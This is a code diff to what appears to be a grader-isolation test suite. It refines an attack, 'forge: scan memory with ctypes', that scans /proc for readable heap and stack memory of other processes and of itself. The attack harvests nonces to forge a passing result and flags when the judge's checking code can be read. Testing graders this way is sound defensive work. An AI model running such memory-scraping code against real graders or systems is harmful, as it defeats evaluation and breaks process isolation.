@@ -115,22 +115,29 @@ def every_fd(p, ctx):
 @attack("forge: scan memory with ctypes")
 def memory_scan(p, ctx):
     return WRONG + FORGE + r'''
+import ctypes
 _found = set()
 for _pid in ["self"] + [d for d in os.listdir("/proc") if d.isdigit()]:
     try:
-        with open(f"/proc/{_pid}/maps") as _m, open(f"/proc/{_pid}/mem", "rb", 0) as _mem:
+        with open(f"/proc/{_pid}/maps") as _m, open(f"/proc/{_pid}/mem" if _pid != "self" else os.devnull, "rb", 0) as _mem:
             for _line in _m:
                 _lo, _hi = (int(x, 16) for x in _line.split()[0].split("-"))
-                if "r" not in _line.split()[1] or _hi - _lo > 64 << 20:
+                _fields = _line.split()
+                if "r" not in _fields[1] or (len(_fields) > 5 and _fields[5] not in ("[heap]", "[stack]")) \
+                        or _hi - _lo > 256 << 20:  # anonymous memory only: a file mapped past its end raises SIGBUS
                     continue
-                try:
-                    _mem.seek(_lo)
-                    _blob = _mem.read(_hi - _lo)
-                except (OSError, ValueError, OverflowError):
-                    continue
-                _found |= _nonces(_blob)
-                if _pid != "self" and b"def check(" in _blob:
-                    print("LEAK: read the judge's memory")
+                for _at in range(_lo, _hi, 4 << 20):
+                    try:
+                        if _pid == "self":  # its own memory needs no /proc/self/mem (closed to nobody)
+                            _blob = ctypes.string_at(_at, min(4 << 20, _hi - _at))
+                        else:
+                            _mem.seek(_at)
+                            _blob = _mem.read(min(4 << 20, _hi - _at))
+                    except BaseException:
+                        break
+                    _found |= _nonces(_blob)
+                    if _pid != "self" and b"def check(" in _blob:
+                        print("LEAK: read the judge's memory")
     except OSError:
         pass
 _forge(_found)
